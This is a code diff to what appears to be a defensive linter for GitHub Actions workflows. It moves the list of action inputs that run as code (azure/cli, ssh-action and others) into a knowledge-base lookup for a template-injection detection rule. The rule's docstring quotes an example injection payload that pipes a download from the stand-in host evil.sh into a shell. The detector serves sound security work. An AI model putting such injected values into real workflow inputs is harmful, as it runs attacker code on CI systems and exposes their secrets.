@@ -1,9 +1,10 @@
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from dataclasses import dataclass, replace
 
+from bastion import knowledge
 from bastion.findings import Confidence, Severity
 from bastion.model.expressions import (
     ContextPath,
@@ -31,24 +32,6 @@ from bastion.source.yaml import MappingNode, ScalarNode
 
 # --- Sinks -----------------------------------------------------------------------------------
 
-SCRIPT_INPUTS: dict[str, tuple[str, str]] = {
-    "actions/github-script": ("script", "JavaScript"),
-    "azure/cli": ("inlinescript", "shell code"),
-    "azure/powershell": ("inlinescript", "PowerShell"),
-    "appleboy/ssh-action": ("script", "shell code on the remote host"),
-    "garygrossgarten/github-action-ssh": ("command", "shell code on the remote host"),
-    "nick-fields/retry": ("command", "shell code"),
-    "nick-invision/retry": ("command", "shell code"),
-    "wandalen/wretry.action": ("command", "shell code"),
-    "uraimo/run-on-arch-action": ("run", "shell code"),
-    "addnab/docker-run-action": ("run", "shell code"),
-    "cross-platform-actions/action": ("run", "shell code"),
-    "mathiasvr/command-output": ("run", "shell code"),
-    "jannekem/run-python-script-action": ("script", "Python"),
-}
-"""Inputs of well-known actions that are run as code: action slug -> (input, language)."""
-
-
 @dataclass(frozen=True, slots=True)
 class Sink:
     node: ScalarNode
@@ -71,17 +54,15 @@ def _sinks(step: Step) -> Iterator[Sink]:
     uses, inputs = step.uses, step.with_
     if uses is None or inputs is None:
         return
-    slug = uses.slug.lower()
     if uses.owner.lower() == "vmactions" and uses.repo.lower().endswith("-vm") and not uses.path:
-        wanted: tuple[str, str] | None = ("run", "shell code in the virtual machine")
+        code: Mapping[str, str] = {"run": "shell code in the virtual machine"}
     else:
-        wanted = SCRIPT_INPUTS.get(slug) if uses.is_action(slug) else None
-    if wanted is None:
-        return
-    name, language = wanted
+        info = knowledge.lookup(uses)  # `code-inputs` of src/bastion/knowledge/actions.toml
+        code = info.code_inputs if info is not None else {}
     for entry in inputs:
-        if entry.key.value.lower() == name and isinstance(entry.value, ScalarNode):
-            fix = _JS_FIX if language == "JavaScript" else _SHELL_FIX
+        language = code.get(entry.key.value.lower())
+        if language is not None and isinstance(entry.value, ScalarNode):
+            fix = _JS_FIX if language.startswith("JavaScript") else _SHELL_FIX
             what = f"the `{entry.key.value}:` input of {uses.slug}"
             yield Sink(entry.value, f"{step.route}/with/{entry.key.value}", what, language, fix)
 
@@ -432,9 +413,11 @@ class TemplateInjection(Rule):
     `a"; curl evil.sh | sh; echo "` runs the attacker's commands.
 
     Sinks: `run:` in workflows and composite actions, the `script:` of
-    `actions/github-script`, and the script inputs of a few well-known actions (azure/cli,
-    azure/powershell, appleboy/ssh-action, nick-fields/retry, uraimo/run-on-arch-action,
-    vmactions VMs, and others). An expression in `if:`, `env:` or an ordinary `with:`
+    `actions/github-script`, and the inputs that the knowledge base (`code-inputs`, see
+    docs/knowledge.md) knows run as code: azure/cli, azure/powershell, appleboy/ssh-action,
+    nick-fields/retry, uraimo/run-on-arch-action, `mikefarah/yq`'s `cmd`,
+    `Amadevus/pwsh-script`'s `script`, the lodash templates of `tibdex/backport`, vmactions
+    VMs, and others). An expression in `if:`, `env:` or an ordinary `with:`
     input is passed as data and is not a sink.
 
     Attacker-controlled values: pull request title, body, head branch and label; issue,
